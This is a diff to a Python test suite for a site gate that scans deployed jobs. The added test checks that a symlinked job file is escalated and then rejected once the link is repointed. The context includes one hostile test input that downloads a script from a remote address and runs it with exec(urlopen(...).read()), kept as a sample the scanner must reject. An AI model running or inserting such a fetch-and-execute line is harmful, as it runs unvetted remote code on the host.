@@ -2,8 +2,8 @@
 and, where it reaches a site, through the site gate's entry point with its fork server: a job of many
 findings (the report lists `limits.max_listed_findings`, counts the rest and decides on all of them),
 identifiers Python normalises (NFKC), encoding cookies and BOMs, a billion-laughs YAML config, an integer of
-100,000 digits, folders nested past PATH_MAX and a symlink loop. Each ends in a finding and an escalate or a
-reject, never an accept, and every other finding stands."""
+100,000 digits, folders nested past PATH_MAX and a symlink loop, a job with a link checked again in its job
+process. Each ends in a finding and an escalate or a reject, never an accept, and every other finding stands."""
 
 from __future__ import annotations
 
@@ -141,3 +141,17 @@ def test_padding_an_inline_download_past_the_fold_limit_leaves_it_a_reject(tmp_p
               "'exec(urllib.request.urlopen(\"https://10.0.0.7/t.py\").read())'])\n")
     code, report = _scan(_unit(tmp_path, {"train.py": launch}))
     assert code == 1 and REJECTED in _rules(report)
+
+
+def test_a_job_with_a_link_keeps_its_deploy_decision_in_the_job_process_until_the_link_changes(tmp_path: Path) -> None:
+    app = deployed(tmp_path, "job-link", "import numpy as np\nprint(np.zeros(3))\n")
+    os.symlink("train.py", app / "custom" / "main.py")
+    gate = _site(tmp_path)
+    assert "escalated" in gate.check_deployed_app(app, {}).message
+    again = gate.check_job_process(str(app.parent.parent), "site-1", "job-link")
+    # Was "rejected ...: changed since it was checked at deploy (custom/main.py)": an approved job with a link never ran.
+    assert not again.allow and "escalated" in again.message and "content unchanged" in again.message
+    os.remove(app / "custom" / "main.py")
+    os.symlink("/data/site/train.csv", app / "custom" / "main.py")
+    moved = gate.check_job_process(str(app.parent.parent), "site-1", "job-link")
+    assert not moved.allow and "changed since it was checked at deploy (custom/main.py)" in moved.message
